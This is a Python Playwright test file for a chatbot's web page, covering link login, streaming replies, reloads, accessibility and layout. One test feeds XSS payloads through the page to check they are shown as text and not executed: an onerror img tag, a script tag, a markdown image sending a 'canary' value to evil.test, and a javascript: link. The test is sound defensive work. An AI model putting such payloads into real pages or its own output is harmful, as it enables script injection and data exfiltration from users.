"""The page in a real browser, against a served channel with a scripted bot."""

import asyncio

import pytest
from playwright.async_api import Browser, Route, expect

from bot.contracts.messages import ResultState
from bot.contracts.turn import OutcomeKind, TurnId
from tests.browser.opening import opened, say, try_now
from tests.channels.webchat.house import a_house

pytestmark = pytest.mark.asyncio(loop_scope="package")

_CODE = "Look:\n\n```python\nprint('hello')  # and a comment that is too long for any phone\n```"


async def test_a_link_opens_the_page_and_leaves_the_address_bar(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        await expect(page.get_by_text("What can I do for you?")).to_be_visible()

        assert page.url == f"{house.url}/"
        await page.reload()
        await expect(page.get_by_text("What can I do for you?")).to_be_visible()


async def test_a_used_link_says_what_to_do(chromium: Browser) -> None:
    async with a_house() as house:
        link = await house.channel.new_link()
        async with opened(chromium, house, link=link) as page:
            await expect(page.get_by_text("What can I do for you?")).to_be_visible()
        async with opened(chromium, house, link=link) as page:
            await expect(page.get_by_text("used or is older than ten minutes")).to_be_visible()
            await expect(page.get_by_label("Message", exact=True)).to_be_hidden()


async def test_without_a_link_the_page_says_how_to_get_one(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house, link=house.url) as page:
        await expect(page.get_by_role("heading", name="This page needs a link")).to_be_visible()
        await expect(page.locator("#locked code")).to_have_text("script/run open")


async def test_what_is_said_while_the_page_still_logs_in_is_heard(chromium: Browser) -> None:
    """A slow way to the bot, and a quick person."""
    logging_in, let_in = asyncio.Event(), asyncio.Event()

    async def slow(route: Route) -> None:
        logging_in.set()
        await let_in.wait()
        await route.continue_()

    async with a_house() as house, opened(chromium, house, link=f"{house.url}/healthz") as page:
        await page.route("**/auth", slow)
        await page.goto(await house.channel.new_link())
        await logging_in.wait()
        await say(page, "are you there?")
        await expect(page.locator("#waiting .text")).to_have_text(["are you there?"])
        let_in.set()

        await expect(page.locator("#lines > .heard .text")).to_have_text(["are you there?"])
        await expect(page.locator("#waiting > *")).to_have_count(0)


async def test_a_suggestion_is_answered(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        house.gateway.on_message = lambda turn, _: house.gateway.answer(turn, "Three things.")

        await page.get_by_role("button", name="Read notes/meeting.md").click()

        await expect(page.locator("#lines .said .body")).to_have_text(["Three things."])
        assert house.gateway.said == [
            "Read notes/meeting.md and list the three things I have to do"
        ]
        await expect(page.locator("#empty")).to_be_hidden()
        await expect(page.locator("#live > li")).to_have_count(0)


async def test_words_come_with_quiet_tools_and_become_one_answer(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        heard: asyncio.Queue[TurnId] = asyncio.Queue()
        house.gateway.on_message = lambda turn, _: heard.put_nowait(turn)
        await say(page, "read it")
        turn = await heard.get()
        house.gateway.start(turn)
        await expect(page.locator("#live .state")).to_contain_text("Thinking")

        house.gateway.words(turn, "I will look.")
        house.gateway.made(turn, final=False)
        house.gateway.call(turn, "c", "read_file", "notes/meeting.md")
        await expect(page.locator(".step.running")).to_have_text("Reading notes/meeting.md")
        house.gateway.result(turn, "c", "read_file", ResultState.OK)
        house.gateway.words(turn, "Half ", "of it")
        await expect(page.locator("#live .body")).to_have_text("Half of it")
        house.gateway.made(turn, final=True)
        house.gateway.finish(turn, "Half of it and the rest")

        await expect(page.locator("#lines .said .body")).to_have_text(["Half of it and the rest"])
        await expect(page.locator("#live > li")).to_have_count(0)
        await expect(page.locator("#lines .taken summary")).to_have_text(["Read notes/meeting.md"])
        await expect(page.get_by_text("I will look.")).to_be_hidden()
        await page.locator("#lines .taken summary").click()
        await expect(page.get_by_text("I will look.")).to_be_visible()


async def test_keys_send_break_lines_and_stop(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        heard: asyncio.Queue[TurnId] = asyncio.Queue()
        house.gateway.on_message = lambda turn, _: heard.put_nowait(turn)
        field = page.get_by_label("Message", exact=True)
        await expect(field).to_be_focused()

        await page.keyboard.type("one")
        await page.keyboard.press("Shift+Enter")
        await page.keyboard.type("two")
        await page.keyboard.press("Enter")
        turn = await heard.get()
        await expect(page.get_by_role("button", name="Stop")).to_be_visible()
        await page.keyboard.press("Escape")
        await heard.get()
        house.gateway.finish(turn, "", kind=OutcomeKind.INTERRUPTED, reason="stopped")

        await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
        await expect(page.locator("#lines .quiet")).to_have_text(["No answer: stopped"])
        assert house.gateway.said == ["one\ntwo", "/stop"]


async def test_enter_chooses_a_word_while_an_input_method_composes(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        field = page.get_by_label("Message", exact=True)
        await field.fill("你好")
        for options in ({"isComposing": True}, {"keyCode": 229}):
            event = {"key": "Enter", "bubbles": True, "cancelable": True, **options}
            await field.dispatch_event("keydown", event)
        await expect(field).to_have_value("你好")

        await field.press("Enter")

        await expect(page.locator("#lines .heard .text")).to_have_text(["你好"])
        assert house.gateway.said == ["你好"]


async def test_a_message_survives_a_full_disk_and_a_reload_and_is_taken_once(
    chromium: Browser,
) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        await expect(page.locator("#empty")).to_be_visible()
        house.gateway.broken = True
        await say(page, "do not lose me")
        await expect(page.locator("#waiting .fate")).to_contain_text("the disk is full")

        await page.reload()
        await expect(page.locator("#waiting .text")).to_have_text("do not lose me")
        house.gateway.mend()
        house.gateway.on_message = lambda turn, _: house.gateway.answer(turn, "I have it.")
        await try_now(page)

        await expect(page.locator("#lines .said .body")).to_have_text(["I have it."])
        await expect(page.locator("#waiting li")).to_have_count(0)
        assert house.gateway.said == ["do not lose me"]


async def test_a_bot_that_was_killed_and_came_back_shows_one_answer(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        heard: asyncio.Queue[TurnId] = asyncio.Queue()
        house.gateway.on_message = lambda turn, _: heard.put_nowait(turn)
        await say(page, "one")
        turn = await heard.get()
        house.gateway.start(turn)
        house.gateway.words(turn, "half an ans")
        await expect(page.locator("#live .body")).to_have_text("half an ans")

        port = house.server.port
        await house.server.close()
        await expect(page.get_by_text("Stonechat does not answer")).to_be_visible()
        await say(page, "two")
        await expect(page.locator("#waiting .fate")).to_be_visible()
        house.gateway.answer(turn, "the whole answer")
        await house.restart(port)
        await try_now(page)

        await expect(page.locator("#lines .said .body")).to_have_text(["the whole answer"])
        await expect(page.locator("#lines .heard .text")).to_have_text(["one", "two"])
        await expect(page.get_by_text("Stonechat does not answer")).to_be_hidden()
        assert house.gateway.said == ["one", "two"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        pytest.param("x" * 200_001, "at most 200,000", id="by the bot"),
        pytest.param("字" * 100_000, "more than 256 KiB", id="by the page"),
    ],
)
async def test_a_message_that_is_refused_can_be_edited(
    chromium: Browser, text: str, reason: str
) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        await expect(page.locator("#empty")).to_be_visible()
        await say(page, text)
        await expect(page.locator(".refused .fate")).to_contain_text(reason)

        await page.get_by_role("button", name="Edit it").click()

        await expect(page.locator("#waiting li")).to_have_count(0)
        assert len(await page.get_by_label("Message", exact=True).input_value()) == len(text)


async def test_a_draft_survives_a_reload(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        await page.get_by_label("Message", exact=True).fill("not finis")

        await page.reload()

        await expect(page.get_by_label("Message", exact=True)).to_have_value("not finis")


async def test_code_can_be_copied(chromium: Browser) -> None:
    async with a_house() as house:
        rights = ["clipboard-read", "clipboard-write"]
        async with opened(chromium, house, permissions=rights) as page:
            house.gateway.on_message = lambda turn, _: house.gateway.answer(turn, _CODE)
            await say(page, "code, please")

            await page.get_by_role("button", name="Copy").click()

            await expect(page.get_by_role("button", name="Copied")).to_be_visible()
            copied = await page.evaluate("navigator.clipboard.readText()")
            assert copied.startswith("print('hello')")
            await expect(page.locator(".code-head")).to_contain_text("python")


async def test_what_the_model_writes_is_shown_and_not_obeyed(chromium: Browser) -> None:
    """W2: nothing is fetched and nothing runs, while it is written and when it is a line."""
    attack = (
        "<img src=https://evil.test/a onerror=alert(1)><script>alert(2)</script>"
        "![x](https://evil.test/?d=canary) [y](javascript:alert(3))"
    )
    async with a_house() as house, opened(chromium, house) as page:
        heard: asyncio.Queue[TurnId] = asyncio.Queue()
        house.gateway.on_message = lambda turn, _: heard.put_nowait(turn)
        await say(page, attack)
        turn = await heard.get()
        house.gateway.start(turn)
        house.gateway.call(turn, "c", "<b onclick=alert(4)>", attack)
        house.gateway.words(turn, attack)
        written = "<img src=https://evil.test/a onerror=alert(1)><script>alert(2)</script>x y"
        await expect(page.locator("#live .body")).to_have_text(written)
        assert await page.locator("#live img, #live script").count() == 0
        house.gateway.finish(turn, attack)

        await expect(page.locator("#lines .said .body")).to_have_text([attack])
        await expect(page.locator("#lines .heard .text")).to_have_text([attack])
        assert await page.locator("#conversation img, #conversation script").count() == 0


async def test_a_problem_is_shown_until_it_is_gone(chromium: Browser) -> None:
    async with a_house(problem="config.yaml:3: a tab.") as house, opened(chromium, house) as page:
        await expect(page.get_by_role("alert")).to_have_text("config.yaml:3: a tab.")

        house.channel.introduce(address=house.url, model="demo", problem="")
        await page.reload()

        await expect(page.locator("#model")).to_have_text("demo")
        await expect(page.get_by_role("alert")).to_be_hidden()


@pytest.mark.parametrize("width", [320, 390, 1200])
async def test_nothing_is_wider_than_the_screen(chromium: Browser, width: int) -> None:
    async with (
        a_house() as house,
        opened(chromium, house, viewport={"width": width, "height": 700}) as page,
    ):
        text = f"{_CODE}\n\n{'w' * 400}\n\nhttps://example.org/{'p/' * 200}"
        house.gateway.on_message = lambda turn, _: house.gateway.answer(turn, text)
        await say(page, "v" * 300)
        await expect(page.locator("#lines .said .body")).to_be_visible()

        assert await page.evaluate("document.documentElement.scrollWidth") <= width


async def test_a_screen_reader_finds_its_way(chromium: Browser) -> None:
    async with a_house() as house, opened(chromium, house) as page:
        house.gateway.on_message = lambda turn, _: house.gateway.answer(turn, "Done.")
        await say(page, "do it")
        await expect(page.locator("#lines .said .body")).to_be_visible()

        for role in ("banner", "navigation", "search", "main", "contentinfo", "log"):
            await expect(page.get_by_role(role)).to_have_count(1)
        await expect(page.get_by_role("log")).to_contain_text("Done.")
        await expect(page.get_by_role("textbox", name="Message")).to_be_visible()
        names = await page.evaluate(
            "[...document.querySelectorAll('button')]"
            ".map((b) => (b.getAttribute('aria-label') ?? b.textContent).trim())"
        )
        assert all(names)


async def test_dark_and_light_follow_the_system(chromium: Browser) -> None:
    async with a_house() as house:
        papers = []
        for scheme in ("light", "dark"):
            async with opened(chromium, house, color_scheme=scheme) as page:
                papers.append(
                    await page.evaluate(
                        "getComputedStyle(document.documentElement).backgroundColor"
                    )
                )

        assert papers == ["rgb(251, 249, 246)", "rgb(25, 23, 20)"]


async def test_two_windows_show_the_same_conversation(chromium: Browser) -> None:
    async with (
        a_house() as house,
        opened(chromium, house) as one,
        opened(chromium, house) as two,
    ):
        await expect(two.locator("#empty")).to_be_visible()
        house.gateway.on_message = lambda turn, _: house.gateway.answer(turn, "to both")

        await say(one, "hello")

        for page in (one, two):
            await expect(page.locator("#lines .heard .text")).to_have_text(["hello"])
            await expect(page.locator("#lines .said .body")).to_have_text(["to both"])
